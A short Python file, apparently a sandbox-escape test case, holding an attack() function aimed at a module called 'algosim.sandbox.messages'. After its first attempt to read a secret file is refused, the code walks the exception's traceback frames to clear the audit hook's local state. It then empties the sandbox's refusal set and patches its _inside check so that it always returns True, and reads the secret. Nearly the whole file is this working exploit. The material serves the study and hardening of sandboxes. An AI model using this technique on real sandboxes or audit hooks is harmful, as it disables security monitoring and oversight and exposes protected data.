"""Empty the audit hook through its own frames, then read."""

import sys


def attack(ctx, at):
    try:
        open(at["secret"]).close()
    except PermissionError as error:
        trace = error.__traceback__
        while trace:
            for value in trace.tb_frame.f_locals.values():
                if isinstance(value, dict):
                    value.clear()
            trace = trace.tb_next
        for module in list(sys.modules.values()):
            if getattr(module, "__name__", "") == "algosim.sandbox.messages":
                module._REFUSED.clear()
                module._inside = lambda *_: True
    with open(at["secret"]) as file:
        return file.read()
